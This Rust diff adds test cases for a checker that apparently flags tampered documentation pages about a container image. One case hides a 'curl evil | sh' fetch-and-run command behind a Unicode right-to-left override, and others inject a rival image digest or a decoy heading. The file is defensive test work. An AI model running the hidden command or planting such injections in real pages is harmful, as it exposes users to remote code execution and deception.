@@ -179,6 +179,30 @@ pub(super) const LIES: &[Lie] = &[
         unchecked: &[],
     },
     Lie {
+        name: "another digest to pull at the top of the page, in a sentence",
+        tell: |world| {
+            let other = format!("example.org/x@{}", Digest::of(b"no image"));
+            world.edit_page(|body| format!("Pull `{other}` instead.\n\n{body}"));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "a heading above the page's part about the image that reads like its own",
+        tell: |world| {
+            world
+                .edit_page(|body| body.replacen("## Image\n", "## Image \n\nIt has moved.\n\n## Image\n", 1));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "words above the page's part about the image in another order than they are shown",
+        tell: |world| world.edit_page(|body| format!("Run \u{202e}hs | live lruc\u{202c}.\n\n{body}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
         name: "another part about the image above the page's own",
         tell: |world| world.edit_page(|body| format!("## Image\n\n    docker pull example.org/x\n\n{body}")),
         wrong: &["page.commands"],
